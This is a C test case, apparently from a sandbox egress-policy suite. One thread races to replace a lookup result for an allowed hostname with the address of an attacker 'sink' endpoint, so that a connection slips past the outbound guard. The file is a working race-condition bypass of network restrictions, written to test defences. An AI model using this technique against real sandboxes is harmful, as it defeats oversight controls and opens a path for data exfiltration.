// class: network
// rule: outbound_connectivity
// policy: lookups.yaml
// success: a thread changes the caller's pointer to the result of a lookup of an allowed name,
//   before the guard reads it
// proof: sink
// needs: resolver
#include "attack.h"
#include <netdb.h>
#include <pthread.h>

static struct addrinfo *volatile found, own;
static volatile int over;

static void *change(void *unused)
{
    while (!over)
        if (found && found != &own) found = &own;
    return unused;
}

int main(void)
{
    pthread_t thread;
    time_t end = time(NULL) + patience(5);
    struct sockaddr_in sink = endpoint("ATTACK_SINK");
    struct sockaddr *place = (struct sockaddr *)&sink;
    own = (struct addrinfo){.ai_family = AF_INET, .ai_addrlen = sizeof sink, .ai_addr = place};
    pthread_create(&thread, NULL, change, NULL);
    while (time(NULL) < end) {
        found = NULL;
        getaddrinfo("api.allowed.example", NULL, NULL, (struct addrinfo **)&found);
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, place, sizeof sink) == 0) return reached();
        close(fd);
    }
    over = 1;
    return stopped("connect");
}
